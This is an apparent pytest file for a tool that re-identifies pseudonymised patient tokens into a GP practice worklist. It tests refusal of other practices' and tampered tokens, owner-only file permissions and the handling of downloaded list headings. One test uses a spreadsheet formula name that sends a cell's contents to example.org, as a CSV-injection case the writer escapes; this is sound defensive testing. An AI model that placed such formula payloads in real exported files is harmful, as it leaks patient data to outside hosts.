"""`phm practice reidentify`: a practice opens its own tokens and nobody else's; tokens for
another practice and tampered tokens are refused, counted, and never guessed."""

from __future__ import annotations

import base64
import os

import pandas as pd
import pytest
from nacl.public import PrivateKey

from openphm.practice.keys import generate_keypair, load_public_key
from openphm.practice.worklist import make_worklist, write_worklist
from openphm.pseudonymise.tokens import seal_tokens

PATIENTS = pd.DataFrame(
    {
        "patient_ref": ["R1", "R2", "R3"],
        "nhs_number": ["9990000018", "9990000026", "9990000034"],
        "given_name": ["Ann", "Bob", "Cy"],
        "family_name": ["Ash", "Birch", "Cedar"],
        "date_of_birth": ["1940-01-01", "1950-02-02", "1960-03-03"],
    }
)


def flip(token: str, position: int = 40) -> str:
    raw = bytearray(base64.urlsafe_b64decode(token + "=" * (-len(token) % 4)))
    raw[position] ^= 0x01
    return base64.urlsafe_b64encode(bytes(raw)).rstrip(b"=").decode()


def cohort_list(tokens: list[str]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "token": tokens,
            "risk_score": [0.5] * len(tokens),
            "reasons": ["aged 65 or over"] * len(tokens),
        }
    )


@pytest.fixture
def ours():
    return PrivateKey.generate()


def test_a_practice_opens_its_own_tokens_and_joins_its_patient_list(ours):
    tokens = seal_tokens(["R3", "R1"], ods_code="A81001", public_key=ours.public_key)
    worklist = make_worklist(cohort_list(tokens), ours, PATIENTS, ods_code="A81001")
    assert list(worklist.rows["nhs_number"]) == ["9990000034", "9990000018"]
    assert list(worklist.rows.columns[:4]) == [
        "nhs_number",
        "given_name",
        "family_name",
        "date_of_birth",
    ]
    assert "token" not in worklist.rows and worklist.refused == 0


def test_another_practices_tokens_are_refused_and_counted_never_guessed(ours):
    theirs = PrivateKey.generate()
    tokens = seal_tokens(["R1"], ods_code="A81001", public_key=ours.public_key)
    tokens += seal_tokens(["R2", "R3"], ods_code="B82002", public_key=theirs.public_key)
    worklist = make_worklist(cohort_list(tokens), ours, PATIENTS)
    assert list(worklist.rows["patient_ref"]) == ["R1"]
    assert worklist.failures == {"for another practice": 2}


def test_a_tampered_token_fails_authentication_and_is_counted(ours):
    tokens = seal_tokens(["R1", "R2"], ods_code="A81001", public_key=ours.public_key)
    worklist = make_worklist(cohort_list([tokens[0], flip(tokens[1])]), ours, PATIENTS)
    assert list(worklist.rows["patient_ref"]) == ["R1"]
    assert worklist.failures == {"failed authentication": 1}


def test_a_patient_no_longer_on_the_list_is_counted_not_invented(ours):
    tokens = seal_tokens(["R1", "GONE"], ods_code="A81001", public_key=ours.public_key)
    worklist = make_worklist(cohort_list(tokens), ours, PATIENTS)
    assert list(worklist.rows["patient_ref"]) == ["R1"] and worklist.not_on_patient_list == 1


def test_the_command_writes_an_owner_only_worklist_and_reports_refusals(tmp_path, cli):
    pair = generate_keypair(tmp_path / "keys")
    ours = load_public_key(pair.public_key)
    tokens = seal_tokens(["R1", "R2"], ods_code="A81001", public_key=ours)
    tokens += seal_tokens(["R3"], ods_code="B82002", public_key=PrivateKey.generate().public_key)
    tokens.append(flip(tokens[1]))
    cohort_list(tokens).to_csv(tmp_path / "list.csv", index=False)
    PATIENTS.to_csv(tmp_path / "patients.csv", index=False)
    result = cli(
        [
            "practice",
            "reidentify",
            tmp_path / "list.csv",
            "--key",
            pair.private_key,
            "--patients",
            tmp_path / "patients.csv",
        ]
    )
    assert result.exit_code == 1
    assert "2 of 4 patients" in result.output
    assert "1 tokens were sealed for another practice" in result.output
    assert "1 tokens failed authentication" in result.output
    out = tmp_path / "list-worklist.csv"
    assert set(pd.read_csv(out, dtype=str)["nhs_number"]) == {"9990000018", "9990000026"}
    assert os.stat(out).st_mode & 0o077 == 0


def test_a_patient_list_without_nhs_numbers_is_refused_with_the_column_named(tmp_path, cli):
    pair = generate_keypair(tmp_path / "keys")
    cohort_list([]).to_csv(tmp_path / "list.csv", index=False)
    PATIENTS.drop(columns="nhs_number").to_csv(tmp_path / "patients.csv", index=False)
    result = cli(
        [
            "practice",
            "reidentify",
            tmp_path / "list.csv",
            "--key",
            pair.private_key,
            "--patients",
            tmp_path / "patients.csv",
        ]
    )
    assert result.exit_code == 2 and "nhs_number" in result.output


def test_a_downloaded_list_s_heading_is_skipped_and_carried_to_the_worklist(cli, tmp_path):
    """A list from the practice's page starts with "# ..." lines saying what it is (one cell
    each, quoted where it holds a comma): the command reads the table below them and heads
    the worklist with them."""
    pair = generate_keypair(tmp_path / "practice")
    from openphm.practice.keys import load_private_key

    key = load_private_key(pair.private_key)
    tokens = seal_tokens(["R2"], ods_code="A81001", public_key=key.public_key)
    heading = ["# Cohort list: Frail, or often admitted (frail)", "# People on the list: 1"]
    listed = tmp_path / "frail.csv"
    listed.write_text(
        '"# Cohort list: Frail, or often admitted (frail)"\n# People on the list: 1\n'
        + cohort_list(tokens).to_csv(index=False)
    )
    patients = tmp_path / "patients.csv"
    PATIENTS.to_csv(patients, index=False)
    out = tmp_path / "worklist.csv"
    result = cli(["practice", "reidentify", listed, "--key", pair.private_key,
                  "--patients", patients, "--out", out])  # fmt: skip
    assert result.exit_code == 0, result.output
    from openphm.practice.worklist import about_lines, read_csv

    assert about_lines(out) == heading
    rows = read_csv(out, ("nhs_number",), "worklist")
    assert list(rows["nhs_number"]) == ["9990000026"]
    assert list(rows["reasons"]) == ["aged 65 or over"]


def test_a_name_that_is_a_formula_stays_text_in_the_written_worklist(ours, tmp_path):
    patients = PATIENTS.assign(
        given_name=['=HYPERLINK("https://example.org/?"&B2,"x")', "Bob", "Cy"]
    )
    tokens = seal_tokens(["R1", "R2"], ods_code="A81001", public_key=ours.public_key)
    worklist = make_worklist(cohort_list(tokens), ours, patients, ods_code="A81001")
    write_worklist(worklist, tmp_path / "worklist.csv")
    written = pd.read_csv(tmp_path / "worklist.csv", dtype=str)
    assert written["given_name"].tolist() == ["'" + patients["given_name"][0], "Bob"]
    assert written["nhs_number"].tolist() == ["9990000018", "9990000026"]  # numbers untouched
